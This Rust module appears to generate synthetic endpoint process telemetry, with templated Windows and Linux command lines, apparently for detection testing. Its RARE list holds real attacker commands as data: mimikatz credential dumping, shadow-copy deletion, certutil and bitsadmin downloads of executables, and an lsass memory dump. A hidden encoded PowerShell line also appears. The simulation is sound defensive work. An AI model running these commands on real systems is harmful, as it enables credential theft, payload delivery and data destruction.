//! The machines, their users, and what runs on them.

use crate::random::{Random, mix};

pub(crate) const DEVICES: u64 = 2_000;
pub(crate) const ACCOUNTS: u64 = 3_000;
/// Programs that nobody has heard of, each on few machines.
pub(crate) const TAIL: u64 = 20_000;

/// A program: what starts it, how it is called, and how often of a thousand times.
pub(crate) struct Program {
    pub(crate) name: &'static str,
    pub(crate) folder: &'static str,
    pub(crate) company: &'static str,
    pub(crate) parent: usize,
    pub(crate) system: bool,
    pub(crate) often: u32,
    pub(crate) lines: &'static [&'static str],
}

const fn program(
    (name, folder, company): (&'static str, &'static str, &'static str),
    parent: usize,
    system: bool,
    often: u32,
    lines: &'static [&'static str],
) -> Program {
    Program { name, folder, company, parent, system, often, lines }
}

const MS: &str = "Microsoft Corporation";
const SYSTEM32: &str = r"C:\Windows\System32";

/// In command lines `{g}` stands for a GUID, `{n}` for a number, `{o}` for one below 255, `{x}` for hexadecimal digits, `{u}` for the user, `{h}`
/// for a host and `{b}` for Base64.
#[rustfmt::skip]
pub(crate) const PROGRAMS: [Program; 24] = [
    program(("services.exe", SYSTEM32, MS), 0, true, 4, &[r"C:\Windows\system32\services.exe"]),
    program(("explorer.exe", r"C:\Windows", MS), 0, false, 6, &[r"C:\Windows\Explorer.EXE", r"explorer.exe /factory,{{g}} -Embedding"]),
    program(("svchost.exe", SYSTEM32, MS), 0, true, 190, &[
        r"svchost.exe -k netsvcs -p -s Schedule", r"C:\Windows\system32\svchost.exe -k LocalService -p -s NcbService",
        r"C:\Windows\System32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{x}", r"svchost.exe -k wsappx -p -s AppXSvc"]),
    program(("chrome.exe", r"C:\Program Files\Google\Chrome\Application", "Google LLC"), 1, false, 170, &[
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-GB --device-scale-factor=1 --renderer-client-id={n} --launch-time-ticks={n}{n} --field-trial-handle={n},i,{n}{n},{n}{n},262144 --variations-seed-version --mojo-platform-channel-handle={n} /prefetch:1"#,
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n},i,{n}{n} --mojo-platform-channel-handle={n} /prefetch:8"#]),
    program(("conhost.exe", SYSTEM32, MS), 7, true, 110, &[r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"conhost.exe 0x4"]),
    program(("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", MS), 1, false, 90, &[
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=de --renderer-client-id={n} --mojo-platform-channel-handle={n} /prefetch:1"#,
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default https://intranet.example/wiki/{x}"#]),
    program(("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", MS), 2, true, 45, &[
        r#"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\ProgramData\Agent\Scripts\inventory-{n}.ps1""#,
        r"powershell.exe -NoP -W Hidden -EncodedCommand {b}",
        r#"powershell.exe -Command "Get-ItemProperty -Path 'HKLM:\SOFTWARE\Vendor\{g}' | Select-Object -ExpandProperty Version""#]),
    program(("cmd.exe", SYSTEM32, MS), 2, true, 80, &[
        r#"cmd.exe /c "C:\Program Files\Agent\bin\check.cmd" {n}"#, r#"C:\Windows\system32\cmd.exe /d /s /c "npm run build -- --job={x}""#,
        r"cmd /c whoami /all", r#"cmd.exe /c reg query "HKLM\SOFTWARE\Vendor\{g}" /v Version"#]),
    program(("RuntimeBroker.exe", SYSTEM32, MS), 2, false, 40, &[r"C:\Windows\System32\RuntimeBroker.exe -Embedding"]),
    program(("backgroundTaskHost.exe", SYSTEM32, MS), 2, false, 35, &[r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{x}{x}.mca"#]),
    program(("MsMpEng.exe", r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18", MS), 0, true, 6, &[r#""MsMpEng.exe""#]),
    program(("taskhostw.exe", SYSTEM32, MS), 2, true, 30, &[r"taskhostw.exe {{g}}", r"taskhostw.exe Install $(Arg0)"]),
    program(("git.exe", r"C:\Program Files\Git\cmd", "The Git Development Community"), 7, false, 28, &[
        r"git.exe rev-parse --show-toplevel", r"git.exe fetch origin {x}{x}{x}{x}{x}", r"git.exe -c diff.mnemonicprefix=false status --porcelain=v2 -- src/{x}.ts"]),
    program(("node.exe", r"C:\Program Files\nodejs", "Node.js"), 7, false, 22, &[r#""C:\Program Files\nodejs\node.exe" C:\Users\{u}\src\web\node_modules\.bin\tsc --build --id {n}"#]),
    program(("rundll32.exe", SYSTEM32, MS), 2, true, 14, &[
        r"rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess Flags:{n} WinX:0", r"rundll32.exe shell32.dll,Control_RunDLL input.dll,{n}"]),
    program(("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", MS), 1, false, 12, &[r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /eml "C:\Users\{u}\Downloads\message {n}.eml""#]),
    program(("EXCEL.EXE", r"C:\Program Files\Microsoft Office\root\Office16", MS), 1, false, 12, &[r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{u}\OneDrive\Reports\forecast {n}.xlsx""#]),
    program(("reg.exe", SYSTEM32, MS), 7, true, 18, &[r#"reg  query "HKLM\SOFTWARE\Vendor\{g}" /v Version"#]),
    program(("sc.exe", SYSTEM32, MS), 7, true, 9, &[r"sc.exe query agent{n}", r"sc start w32time task_started"]),
    program(("net.exe", SYSTEM32, MS), 7, false, 7, &[r"net use Z: \\{h}\share$ /user:corp\{u}", r#"net.exe group "Domain Admins" /domain"#]),
    program(("schtasks.exe", SYSTEM32, MS), 6, true, 8, &[r#"schtasks.exe /Create /TN "Agent\Job{n}" /TR C:\ProgramData\Agent\run.cmd /SC HOURLY /F"#]),
    program(("bash", "/usr/bin", ""), 0, false, 24, &[r"-bash", r"bash -c 'tar czf /tmp/{x}.tgz /var/log/app'", r"/bin/bash /opt/deploy/run.sh --host {h} --build {n}"]),
    program(("python3.11", "/usr/bin", ""), 21, false, 20, &[r"/usr/bin/python3.11 -m pip install --index-url https://pypi.example/simple package-{n}", r"python3 /opt/etl/load.py --batch {g}"]),
    program(("sshd", "/usr/sbin", ""), 21, true, 20, &[r"sshd: {u} [priv]", r"/usr/sbin/sshd -D -R"]),
];

/// What attackers run, apart from Lua: once in ten thousand events.
#[rustfmt::skip]
pub(crate) const RARE: [(&str, &str); 5] = [
    ("mimikatz.exe", r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#), ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    ("certutil.exe", r"certutil.exe -urlcache -split -f http://{h}/{x}.dat C:\Users\Public\{x}.exe"),
    ("bitsadmin.exe", r"bitsadmin /transfer job{n} http://{h}/a.exe C:\Users\Public\a.exe"), ("procdump64.exe", r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\{x}.dmp"),
];

/// One of [`PROGRAMS`], as often as each is run, or none: one of the long tail.
pub(crate) fn run(r: &mut Random) -> Option<usize> {
    let mut often = r.below(1000) as u32;
    PROGRAMS.iter().position(|p| {
        let found = often < p.often;
        often = often.saturating_sub(p.often);
        found
    })
}

/// The user of a machine: each has two of its own; some accounts go everywhere.
pub(crate) fn account(device: u64, r: &mut Random) -> u64 {
    if r.once_in(20) { r.skewed(ACCOUNTS) } else { (device * 3 / 2 + r.below(2)) % ACCOUNTS }
}

/// Fills a command line's holes.
pub(crate) fn expand(line: &str, user: &str, r: &mut Random, out: &mut String) {
    out.clear();
    let mut rest = line;
    while let Some(at) = rest.find('{') {
        out.push_str(&rest[..at]);
        let hole = rest.as_bytes().get(at + 1).copied();
        let closed = rest.as_bytes().get(at + 2) == Some(&b'}');
        rest = match hole {
            Some(b'{') => {
                out.push('{');
                guid(r.bits(), out);
                out.push('}');
                rest.get(at + 5..).unwrap_or_default()
            }
            Some(hole) if closed => {
                fill(hole, user, r, out);
                rest.get(at + 3..).unwrap_or_default()
            }
            _ => {
                out.push('{');
                &rest[at + 1..]
            }
        };
    }
    out.push_str(rest);
}

fn fill(hole: u8, user: &str, r: &mut Random, out: &mut String) {
    const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    match hole {
        b'g' => guid(r.bits(), out),
        b'n' => number(r.below(100_000), out),
        b'o' => number(r.below(255), out),
        b'x' => hex(r.bits(), 8, out),
        b'u' => out.push_str(user),
        b'h' => host(r.skewed(DEVICES), out),
        b'b' => {
            let mut left = 120 + r.below(400);
            while left > 0 {
                let bits = r.bits();
                let now = left.min(10);
                (0..now).for_each(|i| out.push(char::from(BASE64[(bits >> (6 * i)) as usize & 63])));
                left -= now;
            }
        }
        _ => {}
    }
}

/// A number in decimal digits.
pub(crate) fn number(value: u64, out: &mut String) {
    if value >= 10 {
        number(value / 10, out);
    }
    out.push(char::from(b'0' + (value % 10) as u8));
}

/// A number in so many decimal digits.
pub(crate) fn padded(value: u64, digits: u32, out: &mut String) {
    for at in (0..digits).rev() {
        out.push(char::from(b'0' + (value / 10u64.pow(at) % 10) as u8));
    }
}

/// The lowest so many hexadecimal digits of a number.
pub(crate) fn hex(value: u64, digits: usize, out: &mut String) {
    for at in (0..digits).rev() {
        out.push(char::from(b"0123456789abcdef"[(value >> (4 * at)) as usize & 15]));
    }
}

pub(crate) fn guid(of: u64, out: &mut String) {
    let (a, b) = (mix(of), mix(!of));
    for (bits, digits) in [(a >> 32, 8), (a >> 16, 4), (a, 4), (b >> 48, 4), (b, 12)] {
        if digits != 8 {
            out.push('-');
        }
        hex(bits, digits, out);
    }
}

pub(crate) fn host(device: u64, out: &mut String) {
    out.push_str(match device % 10 {
        0..=6 => "ws-",
        7 | 8 => "srv-",
        _ => "lin-",
    });
    padded(device, 4, out);
    out.push_str(".corp.example");
}

pub(crate) fn user(account: u64, out: &mut String) {
    const FIRST: [&str; 12] =
        ["alice", "bruno", "chen", "dilek", "eva", "farid", "grace", "hiro", "ines", "jonas", "kavya", "lena"];
    out.push_str(FIRST[(account % 12) as usize]);
    out.push('.');
    padded(account / 12, 3, out);
}

/// `digits` hexadecimal digits that stand for a file's hash.
pub(crate) fn hash(of: u64, digits: usize, out: &mut String) {
    let mut n = of;
    let mut left = digits;
    while left > 0 {
        n = mix(n.wrapping_add(0x9E37_79B9_7F4A_7C15));
        let now = left.min(16);
        hex(n >> (4 * (16 - now)), now, out);
        left -= now;
    }
}
